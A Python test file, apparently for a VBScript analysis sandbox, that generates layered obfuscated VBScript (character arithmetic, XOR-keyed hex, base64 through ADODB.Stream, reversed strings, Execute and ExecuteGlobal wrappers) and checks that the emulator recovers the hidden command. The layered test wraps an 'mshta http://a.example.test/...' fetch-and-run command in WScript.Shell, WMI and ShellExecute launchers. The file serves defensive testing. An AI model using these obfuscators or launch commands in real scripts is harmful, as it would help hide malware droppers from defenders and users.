"""What VBScript hides comes back, whatever the seed: texts in expressions, run as code, layer over layer."""

from __future__ import annotations

import base64
import random as randoms

import pytest
from evaluate.vba.test_script import effects, run

SEEDS = range(12)


def quote(text):
    """A text as a literal; line ends as vbLf."""
    return " & vbLf & ".join('"' + line.replace('"', '""') + '"' for line in text.split("\n"))


def cut(random, text):
    pieces = []
    while text:
        size = random.randint(1, max(3, len(text) // 3))
        pieces, text = [*pieces, text[:size]], text[size:]
    return pieces


def word(random):
    return "".join(random.choice("abcdefghijkmopqrtuvwxyz") for _ in range(random.randint(4, 8))) + "q"


# Each gives statements that come first, and an expression.


def characters(random, text):
    form = random.choice((
        lambda c: f"Chr({c + 13}-13)",
        lambda c: f"ChrW(&H{c:X})",
        lambda c: f'Chr(CLng("&H{c * 5:x}")/5)',
        lambda c: f"Chr({c * 3}\\3)",
        lambda c: f"Chr({c ^ 0x55} Xor 85)",
    ))  # fmt: skip
    return "", random.choice((" & ", "+", "&")).join(form(ord(c)) for c in text)


def numbers_in_a_text(random, text):
    n, mark, by = word(random), random.choice("*|;~!"), random.randint(2, 9)
    numbers = mark.join(str(ord(c) * by + 3) for c in text)
    return f'For Each {n}i In Split("{numbers}", "{mark}")\n{n} = {n} & Chr(({n}i - 3) / {by})\nNext\n', n


def shuffled_array(random, text):
    n, pieces = word(random), cut(random, text)
    order = random.sample(range(len(pieces)), len(pieces))
    return f"ReDim {n}({len(pieces) - 1})\n" + "".join(f"{n}({i}) = {quote(pieces[i])}\n" for i in order), f'Join({n}, "")'


def taken_out(random, text):
    mark = random.choice(("~#", "%$%", "@@", "^_^"))
    noisy = mark.join(cut(random, text))
    n = word(random)
    return random.choice((
        ("", f'Replace({quote(noisy)}, "{mark}", "")'),
        ("", f'Join(Split({quote(noisy)}, "{mark}"), "")'),
        (f'Set {n} = New RegExp\n{n}.Global = True\n{n}.Pattern = "{"".join(chr(92) + c for c in mark)}"\n', f'{n}.Replace({quote(noisy)}, "")'),
    ))  # fmt: skip


def turned_round(random, text):
    n = word(random)
    return random.choice((
        ("", f"StrReverse({quote(text[::-1])})"),
        (f"Function {n}(s)\nIf Len(s) > 0 Then {n} = {n}(Mid(s, 2)) & Left(s, 1)\nEnd Function\n", f"{n}({quote(text[::-1])})") if len(text) < 50
        else (f"{n}s = {quote(text[::-1])}\nFor {n}i = Len({n}s) To 1 Step -1\n{n} = {n} & Mid({n}s, {n}i, 1)\nNext\n", n),
    ))  # fmt: skip


def hexadecimal_with_key(random, text):
    n, key = word(random), word(random)
    digits = "".join(f"{ord(c) ^ ord(key[i % len(key)]):02x}" for i, c in enumerate(text))
    return (
        f'Function {n}(s, k)\nFor i = 1 To Len(s) Step 2\n{n} = {n} & Chr(CInt("&H" & Mid(s, i, 2)) Xor Asc(Mid(k, (i \\ 2) Mod Len(k) + 1, 1)))\nNext\nEnd Function\n',
        f'{n}("{digits}", "{key}")',
    )


def base64_by_xml(random, text):
    n = word(random)
    return (
        (
            f'Set {n}e = CreateObject("Msxml2.DOMDocument.3.0").CreateElement("{n}")\n{n}e.DataType = "bin.base64"\n{n}e.Text = "{base64.b64encode(text.encode()).decode()}"\n'
            f'Set {n}s = CreateObject("ADODB.Stream")\n{n}s.Type = 1\n{n}s.Open\n{n}s.Write {n}e.nodeTypedValue\n{n}s.Position = 0\n{n}s.Type = 2\n{n}s.CharSet = "us-ascii"\n'
        ),
        f"{n}s.ReadText",
    )


def kept_in_a_class(random, text):
    n = word(random)
    return random.choice((
        (f"Class {n}\nPrivate v\nPrivate Sub Class_Initialize\nv = {quote(text)}\nEnd Sub\nPublic Property Get P\nP = v\nEnd Property\nEnd Class\n", f'"" & (New {n}).P'),
        (f"Class {n}\nPublic Default Function F(a, b)\nF = b & a\nEnd Function\nEnd Class\nSet {n}o = New {n}\n", f"{n}o({quote(text[4:])}, {quote(text[:4])})"),
        (f'Set {n} = CreateObject("Scripting.Dictionary")\n{n}.Add "a", {quote(text[:5])}\n{n}.Add "b", {quote(text[5:])}\n', f'{n}("a") & {n}.Item("b")'),
        (f'Set {n} = CreateObject("System.Collections.ArrayList")\n{n}.Add {quote(text[5:])}\n{n}.Add {quote(text[:5])}\n{n}.Reverse\n', f'Join({n}.ToArray(), "")'),
        (f'Set {n} = GetRef("{n}f")\nFunction {n}f(a)\n{n}f = a & {quote(text[5:])}\nEnd Function\n', f"{n}({quote(text[:5])})"),
    ))  # fmt: skip


TEXTS = (characters, numbers_in_a_text, shuffled_array, taken_out, turned_round, hexadecimal_with_key, base64_by_xml, kept_in_a_class)


def sub(random, e):
    n = word(random)
    return f"Sub {n}(c)\nExecuteGlobal c\nEnd Sub\n{n} {e}"


RUNS = (
    lambda _random, e: f"Execute {e}",
    lambda _random, e: f"ExecuteGlobal({e})",
    sub,
    lambda random, e: f'{(n := word(random))} = {e}\nExecute "Execute " & "{n}"',
    lambda random, e: f"Class {(n := word(random))}\nPublic c\nPrivate Sub Class_Terminate\nExecute c\nEnd Sub\nEnd Class\nSet {n}o = New {n}\n{n}o.c = {e}\nSet {n}o = Nothing",
    lambda random, e: f"Class {(n := word(random))}\nPublic Property Let L(c)\nExecuteGlobal c\nEnd Property\nEnd Class\nSet {n}o = New {n}\n{n}o.L = {e}",
    lambda _random, e: f"On Error Resume Next\nx = 1 / 0\nIf Err.Number = 11 Then\nExecute {e}\nEnd If",
)  # fmt: skip

COMMANDS = (
    'CreateObject("WScript.Shell").Run "{}", 0, False',
    'Set zs = CreateObject("WSc" & "ript.S" & "hell")\nzs.Exec "{}"',
    'GetObject("winmgmts:root\\cimv2:Win32_Process").Create "{}", Null, Null, zp',
    'CreateObject("Shell.Application").ShellExecute Split("{}", " ")(0), Split("{}", " ")(1), "", "open", 0',
    'With CreateObject("WScript.Shell")\n.Run "{}"\nEnd With',
)


@pytest.mark.parametrize("make", TEXTS, ids=lambda make: make.__name__)
def test_texts(make):
    for seed in SEEDS:
        random = randoms.Random(f"{make.__name__}{seed}")
        text = random.choice(('say "INERT" twice', "http://a.example.test/x?y=1&z=%20", "INERT " * 9))
        first, expression = make(random, text)
        assert effects(run(f"{first}WScript.Echo {expression}"), "dialog") == [text], f"{first}{expression}"


@pytest.mark.parametrize("block", range(6))
def test_layers(block):
    for seed in range(30 * block, 30 * block + 30):
        random = randoms.Random(seed)
        command = f"mshta http://a.example.test/{seed}"
        code = random.choice(COMMANDS).replace("{}", command)
        for _ in range(random.randint(1, 4)):
            if len(code) > 4_000:
                break
            first, expression = random.choice(TEXTS)(random, code)
            code = first + random.choice(RUNS)(random, expression)
        assert effects(run(code), "run") == [command], code
